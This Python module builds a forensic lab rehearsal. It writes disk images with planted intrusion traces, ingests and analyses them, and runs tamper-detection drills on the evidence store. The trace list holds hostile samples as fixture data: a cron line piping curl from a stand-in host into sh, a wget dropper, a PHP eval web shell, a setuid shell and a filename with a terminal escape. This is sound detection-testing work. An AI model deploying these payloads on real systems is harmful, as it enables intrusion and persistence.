# SPDX-License-Identifier: Apache-2.0
"""The scenario `offline`: a lab receives a disk image and has to prove what it did with it.

Evidence is made on the spot without root: `mke2fs -d` fills an ext4 partition from a folder with
planted traces, `debugfs` deletes one of them; where `mkfs.xfs` is at hand there is an XFS disk too.
"""

from __future__ import annotations

import contextlib
import hashlib
import json
import logging
import os
import random
import shutil
import struct
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from importlib import resources
from pathlib import Path

from acquisition.source import open_source
from analysis.jobs import JOBS, run_job
from analysis.query import query
from evidence_store.backend import LocalBackend
from evidence_store.checkpoint import LastSeen
from evidence_store.ledger import Scribe
from evidence_store.model import Authority
from evidence_store.sign import LocalSigner
from evidence_store.store import Case, Store
from evidence_store.verify import verify_case
from pipeline.gameday.scorecard import Planted, Scorecard, must
from pipeline.session import Session, tool_identity

log = logging.getLogger(__name__)

CASE = "GAMEDAY"
_PARTITION = 1 << 20
_DISK_BYTES = 160 << 20
_XFS_BYTES = 320 << 20
_SBIN = "/usr/sbin:/sbin"
_LATER = [
    "AWS: isolation, snapshots, copy under the audit key, reading by EBS direct",
    "memory capture and live response over the permitted port",
    "S3 evidence store, containers (E01, qcow2), bags",
    "memory analysis, timelines, detections",
]

Progress = Callable[[str], Callable[[int, int | None], None]]


@dataclass(frozen=True)
class Trace:
    """A planted trace: where it lies, its content, and whether it is deleted afterwards."""

    name: str
    path: str
    content: bytes
    mode: int = 0o644
    deleted: bool = False


def traces(seed: int) -> list[Trace]:
    """Return the traces of this seed; equal seeds, equal bytes."""
    rng = random.Random(seed)  # noqa: S311 (made up evidence, not a secret)

    def blob(size: int) -> bytes:
        return b"\x7fELF" + rng.randbytes(size)

    key = "ssh-ed25519 AAAAC3Nza" + rng.randbytes(24).hex() + " root@kali\n"
    return [
        Trace("cron job that fetches a payload", "etc/cron.d/.sysupd",
              b"*/7 * * * * root curl -s http://203.0.113.9/u | sh\n"),
        Trace("foreign key of root", "root/.ssh/authorized_keys", key.encode(), 0o600),
        Trace("miner under a kernel thread's name", "var/tmp/.X11/[kworker/2:1]", blob(3 << 20),
              0o755),
        Trace("web shell", "var/www/html/img/.thumb.php",
              b"<?php @eval($_POST['k']); ?>\n"),
        Trace("unit that starts it again", "etc/systemd/system/dbus-broker-update.service",
              b"[Service]\nExecStart=/var/tmp/.X11/[kworker/2:1]\nRestart=always\n"),
        Trace("setuid shell", "usr/lib/.cache/sh", blob(120_000), 0o4755),
        Trace("name that attacks the reader's terminal", "tmp/\x1b[2Jall clear\n.txt", b"hello\n"),
        Trace("deleted dropper (its name remains)", "tmp/dropper.sh",
              b"#!/bin/sh\nwget -q http://203.0.113.9/k\n", 0o755, deleted=True),
    ]  # fmt: skip


@dataclass
class OfflineGameDay:
    """One run in `folder`, which must not exist yet."""

    folder: Path
    session: Session
    seed: int
    progress: Progress
    card: Scorecard
    case: Case = field(init=False)
    _checkpoint_key: LocalSigner = field(default_factory=LocalSigner.generate)

    def run(self) -> Scorecard:
        """Do it; the scorecard says which step failed, and how. Later steps build on it."""
        self.folder.mkdir(parents=True)
        try:
            self._steps()
        except Exception:
            if not any(step.outcome == "failed" for step in self.card.steps):
                raise
            log.info("the game day ended at a failed step", exc_info=True)
        return self.card

    def _steps(self) -> None:
        self.card.not_rehearsed += _LATER
        planted = traces(self.seed)
        disks = self._evidence(planted)
        self._open()
        for name, disk in disks.items():
            self._ingest(name, disk)
        self._analyse()
        self._find(planted, len(disks))
        self._report()
        self._verify()
        self._tamper()
        self._truncate()
        self._without_us()

    # -- the steps -------------------------------------------------------------------------------

    def _evidence(self, planted: list[Trace]) -> dict[str, Path]:
        with self.card.step("make evidence") as step:
            tree = self.folder / "tree"
            for trace in planted:
                path = tree / trace.path
                path.parent.mkdir(parents=True, exist_ok=True)
                path.write_bytes(trace.content)
                path.chmod(trace.mode)
            self._fill(tree)
            disks = {"ext4 disk": self._ext4(tree, planted)}
            if _tool("mkfs.xfs"):
                disks["XFS disk"] = self._xfs(tree, planted)
            else:
                self.card.not_rehearsed.append(
                    "XFS (mkfs.xfs is not installed: apt install xfsprogs)"
                )
            shutil.rmtree(tree)
            step.detail = ", ".join(disks)
        return disks

    def _fill(self, tree: Path) -> None:
        """Ordinary files around the traces, so that there is something to look through."""
        rng = random.Random(self.seed + 1)  # noqa: S311
        for i in range(400):
            path = tree / f"usr/share/app{i % 20}/file{i:03d}.dat"
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(rng.randbytes(rng.randrange(0, 20_000)))
            stamp = 1_750_000_000 + rng.randrange(0, 20 * 86_400)
            os.utime(path, (stamp, stamp))

    def _ext4(self, tree: Path, planted: list[Trace]) -> Path:
        disk = self.folder / "disk.img"
        with disk.open("wb") as f:
            f.truncate(_DISK_BYTES)
        sectors = (_DISK_BYTES - _PARTITION) // 512
        with disk.open("r+b") as f:  # an MBR with one Linux partition that starts at 1 MiB
            f.seek(446)
            f.write(struct.pack("<B3sB3sII", 0, b"\0\2\0", 0x83, b"\xff\xff\xff", 2048, sectors))
            f.seek(510)
            f.write(b"\x55\xaa")
        blocks = (_DISK_BYTES - _PARTITION) // 1024
        _run("mke2fs", "-q", "-F", "-t", "ext4", "-E", f"offset={_PARTITION}", "-d", str(tree),
             str(disk), f"{blocks}k")  # fmt: skip
        for trace in planted:
            if trace.deleted:
                _run("debugfs", "-w", "-R", f"rm /{trace.path}", f"{disk}?offset={_PARTITION}")
        return disk

    def _xfs(self, tree: Path, planted: list[Trace]) -> Path:
        """The same tree on XFS, by a prototype file (names with blanks cannot stand in one)."""
        disk = self.folder / "xfs.img"
        proto = self.folder / "xfs.proto"
        modes = {tree / trace.path: trace.mode for trace in planted}

        def lines(folder: Path) -> Iterator[str]:
            for path in sorted(folder.iterdir()):
                if any(c.isspace() or c == "\x1b" for c in path.name):
                    continue
                if path.is_dir():
                    yield f"{path.name} d--755 0 0"
                    yield from lines(path)
                    yield "$"
                else:
                    mode = modes.get(path, 0o644)
                    kind = "-u-" if mode & 0o4000 else "---"
                    yield f"{path.name} {kind}{mode & 0o777:03o} 0 0 {path}"

        proto.write_text(
            "\n".join(["/boot/xfs", "0 0", "d--755 0 0", *lines(tree), "$", "$"]) + "\n"
        )
        with disk.open("wb") as f:
            f.truncate(_XFS_BYTES)
        _run("mkfs.xfs", "-q", "-f", "-p", str(proto), str(disk))
        return disk

    def _open(self) -> None:
        with self.card.step("open case"):
            actor = self.session.actor
            scribe = Scribe(actor, tool_identity(), LocalSigner.generate())
            store = Store(
                LocalBackend(self.folder / "evidence"), scribe, LastSeen(self.folder / "last-seen")
            )
            self.case = store.create_case(
                CASE, Authority(ticket="GAMEDAY", basis="rehearsal"), deployment="gameday.impound",
                title="Game day: offline lab", contact="nobody@example.org",
                checkpoint_key=self._checkpoint_key.public,
            )  # fmt: skip

    def _ingest(self, name: str, disk: Path) -> None:
        with self.card.step(f"ingest {name}") as step:
            with open_source(str(disk), "disk", text=name) as source:
                done = self.case.ingest("disk", source, progress=self.progress(f"ingest {name}"))
                must(done.manifest.result == "ok", "the item has gaps")
                again = self.case.ingest("disk", source)
            must(again.existing, "the same source was taken twice")
            self.case.seal(self._checkpoint_key)
            step.detail = f"{done.item_id}, sha256 {(done.manifest.content or {}).get('sha256')}"

    def _analyse(self) -> None:
        disks = [i.item_id for i in self.case.state.items.values() if i.kind == "disk"]
        for item_id in disks:
            with self.card.step(f"analyse files of {item_id}") as step:
                result = run_job(self.case, JOBS["files"], item_id,
                                 progress=self.progress(f"analyse {item_id}"))  # fmt: skip
                must(result.result != "failed", "no rows")
                step.detail = f"{result.rows.get('files', 0)} files, {len(result.gaps)} gaps"
        self.case.seal(self._checkpoint_key)

    def _find(self, planted: list[Trace], disks: int) -> None:
        with self.card.step("find planted traces") as step:
            answer = query(self.case, "SELECT item, path, sha256, allocated, name FROM files")
            for trace in planted:
                digest = hashlib.sha256(trace.content).hexdigest()
                base = Path(trace.path).name
                where = [
                    f"{item}:{path}" for item, path, sha256, allocated, name in answer.rows
                    if (sha256 == digest and allocated)
                    or (trace.deleted and not allocated and name == base)
                ]  # fmt: skip
                self.card.planted.append(Planted(trace.name, bool(where), ", ".join(sorted(where))))
            missed = [p.name for p in self.card.planted if not p.found]
            must(not missed, f"not found: {', '.join(missed)}")
            step.detail = f"{len(planted)} of {len(planted)} on {disks} disks"

    def _report(self) -> None:
        from pipeline.report import render

        with self.card.step("report") as step:
            self.card.report = str(render(self.case, self.folder / "report"))
            step.detail = self.card.report

    def _verify(self) -> None:
        with self.card.step("verify, all content") as step:
            verdict = verify_case(self._reopened(self.folder / "evidence"), deep=True)
            must(
                verdict.outcome == "clean", "; ".join(map(str, [*verdict.findings, *verdict.notes]))
            )
            self.card.verdict = verdict.outcome
            step.detail = f"{verdict.entries} entries, {verdict.objects} objects"

    def _tamper(self) -> None:
        with self.card.step("drill: one byte of a segment changes") as step, self._copy() as copy:
            victim = min((copy / "cases" / CASE / "items/E0001/data").iterdir())
            victim.chmod(0o600)
            body = bytearray(victim.read_bytes())
            body[len(body) // 2] ^= 1
            victim.write_bytes(body)
            verdict = verify_case(self._reopened(copy), deep=True)
            must(verdict.outcome == "broken", "the change went unnoticed")
            must("segment 0" in str(verdict.findings[0]), "the wrong segment was named")
            step.detail = f"noticed: {str(verdict.findings[0])[:60]}…"

    def _truncate(self) -> None:
        with self.card.step("drill: the last entry is removed") as step, self._copy() as copy:
            max((copy / "cases" / CASE / "ledger").iterdir()).unlink()
            verdict = verify_case(self._reopened(copy))
            must(verdict.outcome == "broken", "the cut went unnoticed")
            step.detail = f"noticed: {str(verdict.findings[0])[:60]}…"

    def _without_us(self) -> None:
        script = resources.files("evidence_store") / "verify.sh"
        with self.card.step("verify with shell and openssl only") as step:
            must(shutil.which("openssl"), "openssl is not installed")
            done = subprocess.run(
                ["sh", str(script), str(self.folder / "evidence/cases" / CASE)],  # noqa: S607
                capture_output=True, text=True, check=False,
            )  # fmt: skip
            last = (done.stdout + done.stderr).strip().splitlines()[-1:]
            must(done.returncode == 0, f"verify.sh says: {last}")
            step.detail = last[0][:60] if last else ""

    # -- helpers ---------------------------------------------------------------------------------

    def _reopened(self, root: Path) -> Case:
        """The case as somebody else would see it: read anew, keys unknown, nothing remembered."""
        return Store(LocalBackend(root)).case_unverified(CASE)

    @contextlib.contextmanager
    def _copy(self) -> Iterator[Path]:
        copy = self.folder / "tampered"
        shutil.copytree(self.folder / "evidence", copy)
        try:
            yield copy
        finally:
            shutil.rmtree(copy)


def write_scorecard(card: Scorecard) -> Path:
    """Write `scorecard.json` into the game day's folder; return its path."""
    path = Path(card.folder) / "scorecard.json"
    path.write_text(json.dumps(card.document(), indent=1) + "\n")
    return path


def _tool(name: str) -> str | None:
    return shutil.which(name, path=f"{os.environ.get('PATH', '')}:{_SBIN}")


def _run(name: str, *arguments: str) -> None:
    tool = _tool(name)
    must(tool, f"{name} is not installed (apt install {_PACKAGE.get(name, name)})")
    done = subprocess.run([str(tool), *arguments], capture_output=True, text=True, check=False)
    must(done.returncode == 0, f"{name} failed: {done.stderr.strip()[:300]}")


_PACKAGE = {"mke2fs": "e2fsprogs", "debugfs": "e2fsprogs", "mkfs.xfs": "xfsprogs"}
